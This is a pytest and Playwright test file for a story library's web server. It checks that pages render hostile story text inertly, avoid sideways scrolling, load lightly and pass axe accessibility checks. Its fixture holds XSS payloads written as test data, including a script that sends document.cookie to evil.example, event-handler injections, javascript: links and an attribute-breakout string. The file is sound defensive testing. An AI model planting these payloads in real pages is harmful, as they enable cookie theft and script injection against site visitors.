"""What holds of every page: nothing from elsewhere, nobody left out, no sideways scrolling, no harm done.

The pages are those that the server itself links to, found by following links from the first page.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest

pytest.importorskip("playwright", reason="Playwright is not installed")

from playwright.sync_api import Error

from foundling.library.library import Library
from webserving import Server, serve

# Pages that are opened of each kind: the address with its numbers and names left out.
EACH = 1
# Kinds of page that are looked at, at most.
MOST = 36
# What no page of ours holds.
ALIVE = (
    "script:not([src]):not([type='application/ld+json']), style, iframe, object, embed, base, "
    "[style], [onload], [onerror], [onclick], "
    "a[href^='javascript:' i], a[href^='data:' i], form[action*='evil' i], img"
)
LISTENER = """
    window.violations = [];
    document.addEventListener('securitypolicyviolation', one =>
        window.violations.push(one.violatedDirective + ' ' + one.blockedURI));
"""
CHECK = "async () => (await axe.run(document, {resultTypes: ['violations']})).violations"
# Downloads are no pages.
_FILES = (".epub", ".html", ".txt", ".md", ".json", ".xml", ".csv", ".toml", "/openapi.json")

SCRIPT = "<script>window.harmed = 1; fetch('https://evil.example/?' + document.cookie)</script>"
IMAGE = '<img src="https://evil.example/x.png" onerror="window.harmed = 2">'
SVG = '<svg onload="window.harmed = 3"><script>window.harmed = 4</script></svg>'
STYLE = "<style>body { display: none; background: url(https://evil.example/y) }</style>"
LINK = '<a href="javascript:window.harmed = 5">read on</a><a href="data:text/html,<script>1</script>">more</a>'
BREAK = '"><script>window.harmed = 6</script><p title="'
TEMPLATE = "{{ 7 * 7 }}{% raw %} ${harmed} <%= 1 %>"


def hostile_heap(folder: Path) -> Path:
    """Stories that try whatever a story can."""
    folder.mkdir()
    body = "“Come in,” said Nell. She opened the door. “It is late,” said Tom, and he hit the table.\n\n" * 8
    bad = f"{SCRIPT}{IMAGE}{SVG}{STYLE}{LINK}{BREAK}{TEMPLATE}"
    fields = "Author Fandom Rating Pairing Characters Warnings Summary Series Genre Status Notes Archive".split()
    header = "\n".join(f"{field}: {bad}" for field in fields)
    (folder / "fields.txt").write_text(f"Title: {bad}\n{header}\n\n{bad}\n\n{body}\n{bad}\n")
    (folder / "page.html").write_text(
        f"<html><head><title>{BREAK}</title>{STYLE}<base href='https://evil.example/'></head>"
        f"<body onload='window.harmed=7'><h1>The Page</h1><p>by Nell</p>{SCRIPT}{SVG}{LINK}"
        f"<form action='https://evil.example'><button>go</button></form><iframe src='https://evil.example'></iframe>"
        f"<p><em style='position:fixed;inset:0' onclick='window.harmed=8'>{body}</em></p></body></html>"
    )
    (folder / "<img src=x onerror=window.harmed=9>.txt").write_text(f"Title: A name\nAuthor: '\"><b>\n\n{body}")
    (folder / "long.txt").write_text(f"Title: {'A very long title ' * 600_000}\nAuthor: {'x' * 100_000}\n\n{body}")
    wide = f"Title: {'W' * 300}\nAuthor: {'i' * 300}\nFandom: {'f' * 200}\n\n{'m' * 9000}\n\n{body}"
    (folder / "wide.txt").write_text(wide)
    (folder / "turned.txt").write_text(f"Title: \u202eevil\u2066 \u200b\nAuthor: \x1b[31mred\n\n{body}")
    (folder / "names.txt").write_text(
        "Title: Names\n\n" + "“No,” said <b>Nell</b>. “<script>alert(1)</script>,” said O'Neil & Sons.\n\n" * 20
    )
    return folder


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server of a library full of them."""
    folder = tmp_path_factory.mktemp("hostile")
    with Library.open(folder / "library", create=True) as library:
        library.add([hostile_heap(folder / "heap")], jobs=0)
        library.reread(jobs=0)
    yield from serve(folder / "library")


def kind_of(address: str) -> str:
    """An address without what differs from one page of its kind to the next."""
    parts = urlsplit(address)
    shape = re.sub(r"/[0-9a-z]{8}(?=/|$)|/\d+(?=/|$)", "/…", parts.path)
    asked = sorted({pair.partition("=")[0] for pair in parts.query.split("&") if pair})
    return f"{shape}?{','.join(asked)}"


def pages(server: Server, page: Any, most: int = MOST) -> Iterator[str]:
    """Opens the pages of a server, some of each kind, by following their links; yields each one's address."""
    waiting, opened, kinds = ["/", "/search", "/search?q=autor:x", "/nowhere"], set(), dict[str, int]()
    while waiting and len(opened) < most:
        address = waiting.pop(0)
        kind = kind_of(address)
        if address in opened or kinds.get(kind, 0) >= EACH:
            continue
        opened.add(address)
        kinds[kind] = kinds.get(kind, 0) + 1
        try:
            answer = page.goto(urljoin(server.url, address))
        except Error as error:
            assert "Download" in str(error), address
            continue
        assert answer is not None and answer.status < 500, address
        if "text/html" not in answer.headers.get("content-type", ""):
            continue
        yield address
        for link in page.eval_on_selector_all("a[href]", "all => all.map(one => one.getAttribute('href'))"):
            to = urljoin(page.url, link)
            path = urlsplit(to).path
            if to.startswith(server.url) and not path.endswith(_FILES) and "/download" not in path:
                waiting.append(to.removeprefix(server.url).partition("#")[0])
    assert len(opened) >= min(most, 16)


def test_hostile_stories_show_nothing_but_text(hostile: Server, chromium: Any) -> None:
    context = chromium.new_context(viewport={"width": 360, "height": 740}, accept_downloads=False)
    context.add_init_script(LISTENER)
    page = context.new_page()
    asked: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for address in pages(hostile, page):
        assert page.evaluate("window.harmed") is None, address
        assert page.evaluate("window.violations") == [], address
        assert page.locator(ALIVE).count() == 0, address
        assert page.evaluate("getComputedStyle(document.body).display") != "none", address
        wide = page.evaluate("document.documentElement.scrollWidth")
        assert wide <= 360, f"{address} is {wide} wide"
        assert len(page.content()) < 3_000_000, address
    assert dialogs == []
    assert [one for one in asked if not one.startswith(hostile.url)] == []
    context.close()


@pytest.mark.parametrize("width", [360, 1280])
def test_no_page_scrolls_sideways(server: Server, chromium: Any, width: int) -> None:
    context = chromium.new_context(viewport={"width": width, "height": 740}, accept_downloads=False)
    page = context.new_page()
    too_wide = []
    for address in pages(server, page):
        wide = page.evaluate("document.documentElement.scrollWidth")
        if wide > width:
            too_wide.append((address, wide))
    assert too_wide == []
    context.close()


def test_the_first_page_is_light(server: Server, chromium: Any) -> None:
    context = chromium.new_context()
    page = context.new_page()
    sizes: list[int] = []
    page.on("requestfinished", lambda request: sizes.append(request.sizes()["responseBodySize"]))
    page.goto(server.url, wait_until="networkidle")
    assert 3 <= len(sizes) <= 8 and sum(sizes) < 100_000
    context.close()


@pytest.mark.parametrize("theme", ["light", "dark", "sepia"])
def test_axe_finds_nothing(server: Server, chromium: Any, axe: str, theme: str) -> None:
    context = chromium.new_context(bypass_csp=True, accept_downloads=False)
    context.add_cookies([{"name": "look", "value": f"{theme}.m", "url": server.url}])
    page = context.new_page()
    found = []
    for address in pages(server, page, MOST if theme == "light" else 12):
        page.evaluate("document.querySelectorAll('main details').forEach(one => one.open = true)")
        page.evaluate(axe)
        for one in page.evaluate(CHECK):
            nodes = [(node["html"][:150], [why["message"] for why in node["any"]]) for node in one["nodes"][:3]]
            found.append((address, one["id"], nodes))
    assert found == []
    context.close()
